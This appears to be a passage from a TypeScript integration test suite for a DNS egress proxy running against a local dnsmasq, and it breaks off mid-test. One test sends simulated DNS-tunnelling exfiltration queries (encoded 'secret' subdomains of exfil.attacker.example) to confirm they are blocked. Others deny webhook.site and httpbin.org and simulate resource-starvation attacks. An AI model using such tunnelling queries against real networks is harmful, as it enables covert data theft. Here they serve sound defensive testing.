// The DNS proxy and the name refresher against a real dnsmasq on loopback (unprivileged high ports, no netns).
// Assertions about what reached the resolver read dnsmasq's own query log.

import { afterAll, beforeAll, describe, test } from 'vitest';
import * as assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import * as dgram from 'node:dgram';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import * as net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import dnsPacket from 'dns-packet';
import { CONFIG_DEFAULTS } from '../../src/agent/config.js';
import { DnsProxy, type DnsProxyOptions } from '../../src/dns/proxy.js';
import { NameRefresher } from '../../src/dns/resolver.js';
import { DnsProxyHost } from '../../src/agent/dns-proxy-host.js';
import type { DnsPolicySnapshot } from '../../src/agent/dns-policy.js';
import type { WorkerProxySettings } from '../../src/agent/dns-worker-protocol.js';
import { loadNative } from '../../src/datapath/native.js';
import type { CompiledRule } from '../../src/policy/types.js';
import { waitUntil } from '../support/wait.js';
import type {
  AnswerLearnSink,
  DnsDecision,
  DnsDecisionEvent,
  DnsPolicyOracle,
  LearnedIpSink,
  LearnOutcome,
  ResolverAddress,
} from '../../src/dns/types.js';
import { frame, FrameReader } from '../../src/dns/wire.js';

const DNSMASQ = '/usr/sbin/dnsmasq';
const CLIENT_TIMEOUT_MS = 5000;
const WORKLOAD = { key: 'obot-mcp/ms1kbsng', workloadId: 7 };
const ALLOW_RULE = 101;
const POLICY = { namespace: 'obot-mcp', name: 'ms1kbsng', generation: 3 };
const BLACKHOLE_ZONE = 'blackhole.test';
const ALLOWED = new Set(['api.openai.com', 'chat.openai.com', 'many.cdn.example', 'short.openai.com']);

const oracle: DnsPolicyOracle = {
  workloadFor: (ip) => (ip === '127.0.0.1' ? WORKLOAD : null),
  decide: (_workload, qname): DnsDecision =>
    ALLOWED.has(qname) || qname.endsWith('.marker.test')
      ? { verdict: 'permitted', tier: 2, ruleName: 'allow-openai', policy: POLICY, learnFor: [ALLOW_RULE] }
      : { verdict: 'denied', tier: 2, ruleName: 'deny-all', policy: POLICY, learnFor: [] },
};

interface LearnCall {
  workloadId: number;
  ruleIds: number[];
  ips: string[];
  ttlSeconds: number;
}

/** Completes each learn() only after a delay, so an answer released before learning finished would be caught. */
class SlowSink implements AnswerLearnSink {
  readonly calls: LearnCall[] = [];
  async learn(workloadId: number, ruleIds: number[], ips: string[], ttlSeconds: number): Promise<LearnOutcome> {
    await sleep(50);
    this.calls.push({ workloadId, ruleIds, ips, ttlSeconds });
    return { overCap: [] };
  }
  /** The same calls as a NameRefresher's sink, which has no cap to report on. */
  refresherSink(): LearnedIpSink {
    return { learn: async (workloadId, ruleIds, ips, ttlSeconds) => void (await this.learn(workloadId, ruleIds, ips, ttlSeconds)) };
  }
  learnedSoFar(): string[] {
    return this.calls.flatMap((call) => call.ips);
  }
}

function encodeQuery(name: string, type: dnsPacket.RecordType = 'A', id = 4321): Buffer {
  return dnsPacket.encode({ type: 'query', id, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type, name }] });
}

function addressesOf(packet: dnsPacket.Packet): string[] {
  return (packet.answers ?? []).flatMap((a) => (a.type === 'A' || a.type === 'AAAA' ? [a.data] : []));
}

function rcodeOf(packet: dnsPacket.DecodedPacket): string {
  return (packet as dnsPacket.DecodedPacket & { rcode: string }).rcode;
}

/** One UDP exchange; `onAnswer` runs at the moment the answer arrives. */
function udpAsk(
  port: number,
  message: Buffer,
  options: { localAddress?: string; onAnswer?: () => void } = {},
): Promise<dnsPacket.DecodedPacket> {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    const timer = setTimeout(() => {
      socket.close();
      reject(new Error('no UDP answer from the proxy'));
    }, CLIENT_TIMEOUT_MS);
    socket.on('message', (reply) => {
      options.onAnswer?.();
      clearTimeout(timer);
      socket.close();
      resolve(dnsPacket.decode(reply));
    });
    socket.bind({ address: options.localAddress ?? '127.0.0.1', port: 0 }, () => socket.send(message, port, '127.0.0.1'));
  });
}

/** Writes `chunks` on one TCP connection (each after the previous is flushed) and collects `expected` answers. */
function tcpAsk(port: number, chunks: Buffer[], expected: number): Promise<dnsPacket.DecodedPacket[]> {
  return new Promise((resolve, reject) => {
    const answers: dnsPacket.DecodedPacket[] = [];
    const reader = new FrameReader();
    const socket = net.connect({ host: '127.0.0.1', port }, async () => {
      socket.setNoDelay(true);
      for (const chunk of chunks) {
        await new Promise<void>((flushed) => socket.write(chunk, () => flushed()));
        await sleep(20);
      }
    });
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error(`only ${answers.length} of ${expected} TCP answers arrived`));
    }, CLIENT_TIMEOUT_MS);
    socket.on('error', reject);
    socket.on('data', (chunk) => {
      for (const message of reader.push(chunk)) answers.push(dnsPacket.decode(message));
      if (answers.length === expected) {
        clearTimeout(timer);
        socket.destroy();
        resolve(answers);
      }
    });
  });
}

async function freePort(): Promise<number> {
  const server = net.createServer();
  server.listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  const { port } = server.address() as net.AddressInfo;
  await new Promise((resolve) => server.close(resolve));
  return port;
}

const lifetime = { minTtlSeconds: 1, maxTtlSeconds: 3600, graceSeconds: 30 };
const { maxTcpConnections, maxTcpConnectionsPerWorkload, maxInflightQueries, maxInflightQueriesPerWorkload } = CONFIG_DEFAULTS.dns;
/** The agent's default TCP and in-flight caps. */
const DEFAULT_CAPS = { maxTcpConnections, maxTcpConnectionsPerWorkload, maxInflightQueries, maxInflightQueriesPerWorkload };

/** The policy the worker-thread proxy decides from: 127.0.0.1 is WORKLOAD, permitted the names in `permitted`. */
function policySnapshot(permitted: string[]): DnsPolicySnapshot {
  const rule: CompiledRule = {
    ruleId: ALLOW_RULE,
    policy: POLICY,
    name: 'allow-openai',
    action: 'permit',
    protocol: 'tcp',
    portLow: 443,
    portHigh: 443,
    cidrs: [],
    anyDestination: false,
    domains: permitted.map((name) => ({ kind: 'exact', name })),
    watch: false,
    logging: true,
    tlsRequired: false,
    notEnforced: [],
    active: true,
  };
  return {
    workloadsKnown: true,
    workloads: [{ ...WORKLOAD, addresses: ['127.0.0.1'], rules: [rule] }],
    baseline: { dnsNames: [], mode: 'enforce' },
  };
}

function openDescriptors(): number {
  return readdirSync('/proc/self/fd').length;
}

describe('DNS proxy against dnsmasq', () => {
  const workDir = mkdtempSync(join(tmpdir(), 'egressguard-dns-'));
  const logFile = join(workDir, 'queries.log');
  let dnsmasq: ChildProcess | null = null;
  let upstream: ResolverAddress;
  const proxies: DnsProxy[] = [];
  let markers = 0;

  async function startProxy(
    overrides: Partial<DnsProxyOptions> = {},
  ): Promise<{ proxy: DnsProxy; port: number; sink: SlowSink; events: DnsDecisionEvent[] }> {
    const sink = new SlowSink();
    const events: DnsDecisionEvent[] = [];
    const proxy = new DnsProxy({
      listen: ['127.0.0.1'],
      port: 0,
      upstreams: [upstream],
      oracle,
      sink,
      onEvent: (event) => events.push(event),
      deniedRcode: 'NXDOMAIN',
      lifetime,
      ...DEFAULT_CAPS,
      ...overrides,
    });
    proxies.push(proxy);
    await proxy.start();
    return { proxy, port: (proxy.addresses()[0] as { port: number }).port, sink, events };
  }

  function queryLog(): string {
    return existsSync(logFile) ? readFileSync(logFile, 'utf8') : '';
  }

  /** Send an allowed marker query through the proxy and wait until dnsmasq logged it: every earlier query is logged by then. */
  async function flushQueryLog(port: number): Promise<void> {
    markers += 1;
    const marker = `m${markers}.marker.test`;
    await udpAsk(port, encodeQuery(marker));
    for (let attempt = 0; attempt < 500 && !queryLog().includes(`query[A] ${marker} `); attempt += 1) await sleep(10);
    assert.ok(queryLog().includes(`query[A] ${marker} `), `dnsmasq never logged the marker ${marker}`);
  }

  beforeAll(async () => {
    const port = await freePort();
    upstream = { ip: '127.0.0.1', port };
    const manyRecords = Array.from({ length: 40 }, (_, i) => `--host-record=many.cdn.example,198.18.101.${i + 1},60`);
    const args = [
      '--no-daemon',
      '--no-resolv',
      '--no-hosts',
      '--conf-file=/dev/null',
      '--bind-interfaces',
      '--listen-address=127.0.0.1',
      `--port=${port}`,
      '--host-record=api.openai.com,198.18.100.10,fd00:eb:100::10,300',
      '--host-record=short.openai.com,198.18.100.20,fd00:eb:100::20,1',
      '--cname=chat.openai.com,api.openai.com,120',
      ...manyRecords,
      // Forwarded to a port nobody listens on: these names are never answered and stay in flight.
      `--server=/${BLACKHOLE_ZONE}/127.0.0.1#9`,
      '--log-queries',
      `--log-facility=${logFile}`,
      '--pid-file=',
      ...(process.getuid?.() === 0 ? ['--user=root'] : []),
    ];
    dnsmasq = spawn(DNSMASQ, args, { stdio: ['ignore', 'ignore', 'ignore'] });
    // Ready when it answers a direct query.
    for (let attempt = 0; attempt < 100; attempt += 1) {
      const answered = await new Promise<boolean>((resolve) => {
        const socket = dgram.createSocket('udp4');
        const timer = setTimeout(() => (socket.close(), resolve(false)), 100);
        socket.on('error', () => (clearTimeout(timer), socket.close(), resolve(false)));
        socket.on('message', () => (clearTimeout(timer), socket.close(), resolve(true)));
        socket.send(encodeQuery('api.openai.com'), port, '127.0.0.1');
      });
      if (answered) return;
      await sleep(50);
    }
    throw new Error(`dnsmasq did not start on 127.0.0.1:${port}`);
  });

  afterAll(async () => {
    await Promise.all(proxies.map((proxy) => proxy.stop()));
    if (dnsmasq?.pid !== undefined && dnsmasq.exitCode === null) {
      const exited = new Promise((resolve) => dnsmasq?.once('exit', resolve));
      process.kill(dnsmasq.pid, 'SIGTERM');
      await exited;
    }
    rmSync(workDir, { recursive: true, force: true });
  });

  test('allowed name: A and AAAA answered, learned for the rule before the client gets the answer', async () => {
    const { port, sink, events } = await startProxy();
    let learnedAtAnswer: string[] = [];
    const a = await udpAsk(port, encodeQuery('api.openai.com', 'A'), { onAnswer: () => (learnedAtAnswer = sink.learnedSoFar()) });
    assert.equal(a.id, 4321);
    assert.deepEqual(addressesOf(a), ['198.18.100.10']);
    assert.deepEqual(learnedAtAnswer, ['198.18.100.10']);
    const aaaa = await udpAsk(port, encodeQuery('api.openai.com', 'AAAA'), { onAnswer: () => (learnedAtAnswer = sink.learnedSoFar()) });
    assert.deepEqual(addressesOf(aaaa), ['fd00:eb:100::10']);
    assert.ok(learnedAtAnswer.includes('fd00:eb:100::10'));
    assert.deepEqual(sink.calls[0], { workloadId: 7, ruleIds: [ALLOW_RULE], ips: ['198.18.100.10'], ttlSeconds: 300 });
    const event = events[0] as DnsDecisionEvent;
    assert.equal(event.workloadKey, WORKLOAD.key);
    assert.equal(event.query, 'api.openai.com');
    assert.equal(event.qtype, 'A');
    assert.equal(event.verdict, 'permitted');
    assert.equal(event.ruleName, 'allow-openai');
    assert.deepEqual(event.policy, POLICY);
    assert.equal(event.rcode, 'NOERROR');
    assert.deepEqual(event.answers, ['198.18.100.10']);
    assert.equal(event.upstream, `127.0.0.1:${upstream.port}`);
    assert.equal(typeof event.upstreamLatencyMs, 'number');
  });

  test('CNAME: the target addresses are learned for the queried name with the minimum TTL of the chain', async () => {
    const { port, sink } = await startProxy();
    const answer = await udpAsk(port, encodeQuery('Chat.OpenAI.com'));
    assert.deepEqual(addressesOf(answer), ['198.18.100.10']);
    assert.equal(answer.questions?.[0]?.name, 'Chat.OpenAI.com', 'the client sees its own question back');
    assert.deepEqual(sink.calls, [{ workloadId: 7, ruleIds: [ALLOW_RULE], ips: ['198.18.100.10'], ttlSeconds: 120 }]);
  });

  test('denied name: NXDOMAIN without any query reaching the resolver', async () => {
    const { port, proxy, sink, events } = await startProxy();
    const answer = await udpAsk(port, encodeQuery('httpbin.org'));
    assert.equal(rcodeOf(answer), 'NXDOMAIN');
    assert.equal(answer.id, 4321);
    await flushQueryLog(port);
    assert.ok(!queryLog().includes('httpbin.org'));
    assert.deepEqual(sink.calls, [], 'neither the denied name nor the unanswered marker taught any address');
    const denied = events.find((event) => event.query === 'httpbin.org');
    assert.equal(denied?.verdict, 'denied');
    assert.equal(denied?.ruleName, 'deny-all');
    assert.equal(denied?.rcode, 'NXDOMAIN');
    assert.equal(denied?.upstream, null);
    assert.equal(proxy.stats().denied, 1);
  });

  test('DNS tunnelling: 200 unique subdomains of a denied domain produce zero upstream queries', async () => {
    const { port, proxy } = await startProxy();
    const answers = await Promise.all(
      Array.from({ length: 200 }, (_, i) => udpAsk(port, encodeQuery(`c2VjcmV0LWNodW5r${i}x.exfil.attacker.example`, 'TXT', i))),
    );
    assert.ok(answers.every((answer) => rcodeOf(answer) === 'NXDOMAIN'));
    await flushQueryLog(port);
    assert.ok(!queryLog().includes('attacker.example'));
    assert.equal(proxy.stats().denied, 200);
  });

  test('deniedRcode REFUSED answers denied names with REFUSED', async () => {
    const { port } = await startProxy({ deniedRcode: 'REFUSED' });
    assert.equal(rcodeOf(await udpAsk(port, encodeQuery('webhook.site'))), 'REFUSED');
  });

  test('unknown source address: REFUSED, event without a workload, nothing forwarded', async () => {
    const { port, events, proxy } = await startProxy();
    const answer = await udpAsk(port, encodeQuery('api.openai.com', 'A', 77), { localAddress: '127.0.0.2' });
    assert.equal(rcodeOf(answer), 'REFUSED');
    assert.equal(answer.id, 77);
    assert.equal(events[0]?.workloadKey, null);
    assert.equal(events[0]?.sourceIp, '127.0.0.2');
    assert.equal(events[0]?.ruleName, 'unknown-source');
    assert.equal(proxy.stats().unknownSource, 1);
  });

  test('unknown source while the workloads are not known yet (a restarted agent before its pod list): no answer, then REFUSED', async () => {
    let known = false;
    const { port, events, proxy } = await startProxy({ oracle: { ...oracle, workloadsKnown: () => known } });
    const early = dgram.createSocket('udp4');
    const answered: Buffer[] = [];
    early.on('message', (reply) => answered.push(reply));
    await new Promise<void>((resolve) => early.bind({ address: '127.0.0.2', port: 0 }, resolve));
    try {
      early.send(encodeQuery('api.openai.com', 'A', 78), port, '127.0.0.1');
      await waitUntil('the proxy read the early query', () => proxy.stats().unknownSource === 1);
      // A workload's query sent after it is answered: the proxy has handled the early one by then, without a reply.
      assert.equal(rcodeOf(await udpAsk(port, encodeQuery('api.openai.com', 'A', 79))), 'NOERROR');
      assert.deepEqual(answered, []);
      assert.deepEqual(
        events.filter((e) => e.ruleName === 'unknown-source'),
        [],
      );
      known = true;
      assert.equal(rcodeOf(await udpAsk(port, encodeQuery('api.openai.com', 'A', 80), { localAddress: '127.0.0.2' })), 'REFUSED');
    } finally {
      early.close();
    }
  });

  test('TCP: one query, two queries in one write, and a query split across writes', async () => {
    const { port, sink } = await startProxy();
    const [single] = await tcpAsk(port, [frame(encodeQuery('api.openai.com', 'A', 1))], 1);
    assert.deepEqual(addressesOf(single as dnsPacket.DecodedPacket), ['198.18.100.10']);

    const pair = await tcpAsk(
      port,
      [Buffer.concat([frame(encodeQuery('api.openai.com', 'A', 2)), frame(encodeQuery('httpbin.org', 'A', 3))])],
      2,
    );
    const byId = new Map(pair.map((answer) => [answer.id, answer]));
    assert.deepEqual(addressesOf(byId.get(2) as dnsPacket.DecodedPacket), ['198.18.100.10']);
    assert.equal(rcodeOf(byId.get(3) as dnsPacket.DecodedPacket), 'NXDOMAIN');

    const whole = frame(encodeQuery('api.openai.com', 'AAAA', 4));
    const [split] = await tcpAsk(port, [whole.subarray(0, 1), whole.subarray(1, 9), whole.subarray(9)], 1);
    assert.equal(split?.id, 4);
    assert.deepEqual(addressesOf(split as dnsPacket.DecodedPacket), ['fd00:eb:100::10']);
    assert.ok(sink.learnedSoFar().includes('fd00:eb:100::10'));
  });

  test('TCP: connections over the cap are closed at accept; idle connections are closed', async () => {
    const { port, proxy } = await startProxy({ maxTcpConnections: 1, maxTcpConnectionsPerWorkload: 1, tcpIdleTimeoutMs: 100 });
    // From two addresses (two owners): the node's cap is reached, not one owner's share.
    const connect = async (localAddress: string): Promise<net.Socket> => {
      const socket = net.connect({ host: '127.0.0.1', port, localAddress });
      await new Promise((resolve) => socket.once('connect', resolve));
      return socket;
    };
    const first = await connect('127.0.0.1');
    const firstClosed = new Promise((resolve) => first.once('close', resolve));
    const second = await connect('127.0.0.2');
    await new Promise((resolve) => second.once('close', resolve));
    assert.equal(proxy.stats().tcpConnectionsRejected, 1);
    await firstClosed;
    assert.equal(first.destroyed, true, 'the idle connection was closed by the proxy');
  });

  test("TCP: the node-wide cap counts both families' listeners together", async () => {
    const { proxy } = await startProxy({ listen: ['127.0.0.1', '::1'], maxTcpConnections: 1, maxTcpConnectionsPerWorkload: 1 });
    const [v4, v6] = proxy.addresses();
    const held = net.connect({ host: '127.0.0.1', port: v4!.port });
    await new Promise((resolve) => held.once('connect', resolve));
    const refused = net.connect({ host: '::1', port: v6!.port });
    await new Promise((resolve) => refused.once('close', resolve));
    assert.equal(proxy.stats().tcpConnectionsRejected, 1, 'the IPv6 connection found the node full');
    assert.equal(held.destroyed, false);
    held.destroy();
  });

  test('TCP slots are per workload: one workload holding connections cannot starve another', async () => {
    const other = { key: 'obot-mcp/other', workloadId: 8 };
    const twoWorkloads: DnsPolicyOracle = {
      ...oracle,
      workloadFor: (ip) => (ip === '127.0.0.1' ? WORKLOAD : ip === '127.0.0.2' ? other : null),
    };
    /** Opens `count` connections from the hog's address; resolves once the proxy has accepted or closed each. */
    const hog = async (port: number, count: number): Promise<net.Socket[]> => {
      const sockets = await Promise.all(
        Array.from({ length: count }, async () => {
          const socket = net.connect({ host: '127.0.0.1', port, localAddress: '127.0.0.1' });
          socket.on('error', () => {});
          await new Promise((resolve) => socket.once('connect', resolve));
          return socket;
        }),
      );
      await sleep(100);
      return sockets;
    };
    const askFromOther = (port: number): Promise<string> =>
      new Promise((resolve) => {
        const reader = new FrameReader();
        const socket = net.connect({ host: '127.0.0.1', port, localAddress: '127.0.0.2' }, () =>
          socket.write(frame(encodeQuery('api.openai.com', 'A', 9))),
        );
        socket.on('data', (chunk) => {
          for (const message of reader.push(chunk)) {
            socket.destroy();
            resolve(addressesOf(dnsPacket.decode(message)).join(','));
          }
        });
        socket.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
        socket.on('close', () => resolve('closed'));
      });

    // Calibration: with one workload allowed every slot, its idle connections starve the other's lookup.
    const open = await startProxy({ oracle: twoWorkloads, maxTcpConnections: 8, maxTcpConnectionsPerWorkload: 8 });
    const starving = await hog(open.port, 8);
    assert.notEqual(await askFromOther(open.port), '198.18.100.10', 'the attack works without a per-workload cap');
    for (const socket of starving) socket.destroy();

    const bounded = await startProxy({ oracle: twoWorkloads, maxTcpConnections: 8, maxTcpConnectionsPerWorkload: 4 });
    const held = await hog(bounded.port, 8);
    assert.equal(bounded.proxy.stats().tcpConnectionsRejectedPerWorkload, 4, 'the hog keeps its own 4 slots, no more');
    assert.equal(await askFromOther(bounded.port), '198.18.100.10', 'the other workload is still answered');
    for (const socket of held) socket.destroy();
  });

  test('in-flight slots are per workload: names that are never answered cannot starve another workload', async () => {
    const other = { key: 'obot-mcp/other', workloadId: 8 };
    const twoWorkloads: DnsPolicyOracle = {
      workloadFor: (ip) => (ip === '127.0.0.1' ? WORKLOAD : ip === '127.0.0.2' ? other : null),
      decide: (workload, qname) =>
        qname.endsWith(`.${BLACKHOLE_ZONE}`) ? oracle.decide(workload, 'api.openai.com') : oracle.decide(workload, qname),
    };
    const caps = { oracle: twoWorkloads, upstreamTimeoutMs: 30_000, maxInflightQueries: 8 };
    /** Sends `count` lookups of never-answered names from the hog's address; resolves once dnsmasq forwarded them. */
    const hog = async (port: number, count: number, run: string): Promise<dgram.Socket> => {
      const socket = dgram.createSocket('udp4');
      await new Promise<void>((resolve) => socket.bind({ address: '127.0.0.1', port: 0 }, resolve));
      for (let i = 0; i < count; i += 1) socket.send(encodeQuery(`${run}-${i}.${BLACKHOLE_ZONE}`, 'A', i), port, '127.0.0.1');
      return socket;
    };
    const forwarded = (run: string) =>
      queryLog()
        .split('\n')
        .filter((line) => line.includes(`query[A] ${run}-`)).length;

    // Calibration: with one workload allowed every slot, its unanswered lookups hold them and the other's is dropped.
    const open = await startProxy({ ...caps, maxInflightQueriesPerWorkload: 8 });
    const starving = await hog(open.port, 8, 'starve');
    await waitUntil('dnsmasq to log the hog lookups', () => forwarded('starve') === 8);
    const starved = udpAsk(open.port, encodeQuery('starved.marker.test'), { localAddress: '127.0.0.2' });
    await waitUntil('the proxy to drop the other workload at the node cap', () => open.proxy.stats().droppedOverload === 1);
    await assert.rejects(starved, /no UDP answer/, 'the attack works without a per-workload share');
    starving.close();
    await open.proxy.stop();

    const bounded = await startProxy({ ...caps, maxInflightQueriesPerWorkload: 4 });
    await flushQueryLog(bounded.port);
    assert.ok(!queryLog().includes('starved.marker.test'), 'the resolver never saw the starved lookup');
    const held = await hog(bounded.port, 8, 'share');
    await waitUntil('the proxy to drop the hog past its share', () => bounded.proxy.stats().droppedOverloadPerWorkload === 4);
    await waitUntil('dnsmasq to log the hog lookups', () => forwarded('share') === 4);
    const answered = await udpAsk(bounded.port, encodeQuery('answered.marker.test'), { localAddress: '127.0.0.2' });
    assert.equal(answered.id, 4321, 'the other workload is answered');
    await waitUntil("dnsmasq to log the other workload's lookup", () => queryLog().includes('query[A] answered.marker.test '));
    assert.deepEqual([bounded.proxy.stats().droppedOverload, forwarded('share')], [0, 4], 'only the hog was held to its share');
    held.close();
  });

  test('listens on IPv6 too: a query over ::1 is served (REFUSED here, as ::1 belongs to no workload)', async () => {
    const { proxy } = await startProxy({ listen: ['127.0.0.1', '::1'] });
    const v6 = proxy.addresses().find((entry) => entry.family === 6);
    assert.equal(v6?.port, proxy.addresses()[0]?.port, 'one port for every address');
    const socket = dgram.createSocket('udp6');
    const answer = await new Promise<dnsPacket.DecodedPacket>((resolve) => {
      socket.on('message', (reply) => resolve(dnsPacket.decode(reply)));
      socket.send(encodeQuery('api.openai.com'), v6?.port ?? 0, '::1');
    });
    socket.close();
    assert.equal(rcodeOf(answer), 'REFUSED');
  });

  test('truncated UDP answer: full answer fetched over TCP and learned, client told to retry over TCP', async () => {
    const { port, sink } = await startProxy();
    const viaUdp = await udpAsk(port, encodeQuery('many.cdn.example'));
    assert.equal(viaUdp.flag_tc, true);
    assert.equal(sink.calls.length, 1);
    assert.equal(sink.calls[0]?.ips.length, 40);
    const [viaTcp] = await tcpAsk(port, [frame(encodeQuery('many.cdn.example'))], 1);
    assert.equal(addressesOf(viaTcp as dnsPacket.DecodedPacket).length, 40);
  });

  test('malformed input is counted and answered FORMERR or dropped, and the proxy keeps serving', async () => {
    const { port, proxy } = await startProxy();
    const twoQuestions = dnsPacket.encode({
      type: 'query',
      id: 99,
      questions: [
        { type: 'A', name: 'api.openai.com' },
        { type: 'A', name: 'httpbin.org' },
      ],
    });
    const formerr = await udpAsk(port, twoQuestions);
    assert.equal(rcodeOf(formerr), 'FORMERR');
    assert.equal(formerr.id, 99);
    const sender = dgram.createSocket('udp4');
    for (const junk of [Buffer.alloc(0), Buffer.from([1, 2, 3]), Buffer.from('ffffffffffffffffffffffffffffffff', 'hex')]) {
      await new Promise((resolve) => sender.send(junk, port, '127.0.0.1', resolve));
    }
    sender.close();
    const [zeroFrameThenQuery] = await tcpAsk(port, [Buffer.from([0, 0]), frame(encodeQuery('api.openai.com', 'A', 5))], 1);
    assert.equal(zeroFrameThenQuery?.id, 5);
    assert.deepEqual(addressesOf(await udpAsk(port, encodeQuery('api.openai.com'))), ['198.18.100.10']);
    assert.equal(proxy.stats().malformed, 5);
  });

  test('upstream down or silent: SERVFAIL and an event naming the failure', async () => {
    const closedPort = await freePort();
    const down = await startProxy({ upstreams: [{ ip: '127.0.0.1', port: closedPort }] });
    assert.equal(rcodeOf(await udpAsk(down.port, encodeQuery('api.openai.com'))), 'SERVFAIL');
    assert.equal(down.proxy.stats().upstreamErrors, 1);
    assert.match(down.events[0]?.reason ?? '', /no upstream answered/);

    const silent = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => silent.bind(0, '127.0.0.1', resolve));
    try {
      const quiet = await startProxy({ upstreams: [{ ip: '127.0.0.1', port: silent.address().port }], upstreamTimeoutMs: 200 });
      assert.equal(rcodeOf(await udpAsk(quiet.port, encodeQuery('api.openai.com'))), 'SERVFAIL');
      assert.equal(quiet.sink.calls.length, 0);
    } finally {
      silent.close();
    }
  });

  test('a TTL above the maximum is learned, reported and released as the maximum (the client never outcaches the kernel)', async () => {
    const resolver = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => resolver.bind(0, '127.0.0.1', resolve));
    resolver.on('message', (message, from) => {
      const query = dnsPacket.decode(message);
      const name = query.questions?.[0]?.name ?? '';
      const reply = dnsPacket.encode({
        type: 'response',
        id: query.id ?? 0,
        flags: dnsPacket.RECURSION_AVAILABLE,
        questions: query.questions,
        answers: [
          { type: 'CNAME', name, ttl: 86_400, data: 'edge.openai.com' },
          { type: 'A', name: 'edge.openai.com', ttl: 86_400, data: '198.18.100.10' },
          { type: 'A', name: 'edge.openai.com', ttl: 600, data: '198.18.100.11' },
        ],
      });
      resolver.send(reply, from.port, from.address);
    });
    try {
      const { port, sink, events } = await startProxy({
        upstreams: [{ ip: '127.0.0.1', port: resolver.address().port }],
        lifetime: { minTtlSeconds: 1, maxTtlSeconds: 900, graceSeconds: 30 },
      });
      const answer = await udpAsk(port, encodeQuery('api.openai.com'));
      assert.deepEqual(
        answer.answers?.map((record) => [record.type, 'ttl' in record ? record.ttl : undefined]),
        [
          ['CNAME', 600],
          ['A', 600],
          ['A', 600],
        ],
        'the learned TTL is the chain minimum (600); nothing is released for longer',
      );
      assert.equal(sink.calls[0]?.ttlSeconds, 600);
      assert.equal(events.at(-1)?.learnedTtlSeconds, 600);

      resolver.removeAllListeners('message');
      resolver.on('message', (message, from) => {
        const query = dnsPacket.decode(message);
        const reply = dnsPacket.encode({
          type: 'response',
          id: query.id ?? 0,
          flags: dnsPacket.RECURSION_AVAILABLE,
          questions: query.questions,
          answers: [{ type: 'A', name: query.questions?.[0]?.name ?? '', ttl: 86_400, data: '198.18.100.12' }],
        });
        resolver.send(reply, from.port, from.address);
      });
      const long = await udpAsk(port, encodeQuery('chat.openai.com'));
      assert.deepEqual(
        long.answers?.map((record) => ('ttl' in record ? record.ttl : undefined)),
        [900],
        'a day-long TTL is released as the 900 s maximum',
      );
      assert.equal(sink.calls.at(-1)?.ttlSeconds, 900);
      assert.equal(events.at(-1)?.learnedTtlSeconds, 900);
    } finally {
      resolver.close();
    }
  });

  test('spoofed answers (other source port, wrong id) are ignored; only the resolver socket answer is learned', async () => {
    const resolver = dgram.createSocket('udp4');
    const spoofer = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => resolver.bind(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => spoofer.bind(0, '127.0.0.1', resolve));
    const answerFor = (query: dnsPacket.DecodedPacket, id: number, address: string): Buffer =>
      dnsPacket.encode({
        type: 'response',
        id,
        flags: dnsPacket.RECURSION_AVAILABLE,
        questions: query.questions,
        answers: [{ type: 'A', name: query.questions?.[0]?.name ?? '', ttl: 60, data: address }],
      });
    resolver.on('message', async (message, from) => {
      const query = dnsPacket.decode(message);
      const send = (socket: dgram.Socket, reply: Buffer): Promise<unknown> =>
        new Promise((resolve) => socket.send(reply, from.port, from.address, resolve));
      await send(spoofer, answerFor(query, query.id ?? 0, '198.18.66.66'));
      await send(resolver, answerFor(query, ((query.id ?? 0) + 1) & 0xffff, '198.18.66.67'));
      await sleep(50);
      await send(resolver, answerFor(query, query.id ?? 0, '198.18.100.10'));
    });
    try {
      const { port, sink, proxy } = await startProxy({ upstreams: [{ ip: '127.0.0.1', port: resolver.address().port }] });
      const answer = await udpAsk(port, encodeQuery('api.openai.com'));
      assert.deepEqual(addressesOf(answer), ['198.18.100.10']);
      assert.deepEqual(sink.learnedSoFar(), ['198.18.100.10']);
      assert.equal(proxy.stats().upstreamResponsesIgnored, 1, 'the wrong-id answer from the resolver socket is counted');
    } finally {
      resolver.close();
      spoofer.close();
    }
  });

  /** A scripted resolver on loopback: `reply` answers each query (or sends nothing when it returns null). */
  async function scriptedResolver(
    reply: (query: dnsPacket.DecodedPacket, from: dgram.RemoteInfo) => Buffer[],
  ): Promise<{ socket: dgram.Socket; upstream: ResolverAddress; queries: { id: number; port: number; name: string }[] }> {
    const socket = dgram.createSocket('udp4');
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    const queries: { id: number; port: number; name: string }[] = [];
    socket.on('message', (message, from) => {
      const query = dnsPacket.decode(message);
      queries.push({ id: query.id ?? 0, port: from.port, name: query.questions?.[0]?.name ?? '' });
      for (const answer of reply(query, from)) socket.send(answer, from.port, from.address);
    });
    return { socket, upstream: { ip: '127.0.0.1', port: socket.address().port }, queries };
  }

  const answerWith = (query: dnsPacket.DecodedPacket, rcode: 'NOERROR' | 'NXDOMAIN', address: string | null, name?: string): Buffer =>
    dnsPacket.encode({
      type: 'response',
      id: query.id ?? 0,
      flags: dnsPacket.RECURSION_AVAILABLE | (rcode === 'NXDOMAIN' ? 3 : 0),
      questions: name === undefined ? query.questions : [{ type: 'A', name }],
      answers: address === null ? [] : [{ type: 'A', name: name ?? query.questions?.[0]?.name ?? '', ttl: 300, data: address }],
    });

  test('a positive answer is cached for every workload, learned for each before release, its TTL aged; negative answers are not cached', async () => {
    const resolver = await scriptedResolver((query) => [
      query.questions?.[0]?.name === 'cached.openai.com'
        ? answerWith(query, 'NOERROR', '198.18.100.44')
        : answerWith(query, 'NXDOMAIN', null),
    ]);
    const workloads = new Map([
      ['127.0.0.1', { key: 'team-a/agent', workloadId: 7 }],
      ['127.0.0.2', { key: 'team-b/agent', workloadId: 8 }],
    ]);
    try {
      const { port, sink, events } = await startProxy({
        upstreams: [resolver.upstream],
        oracle: {
          workloadFor: (ip) => workloads.get(ip) ?? null,
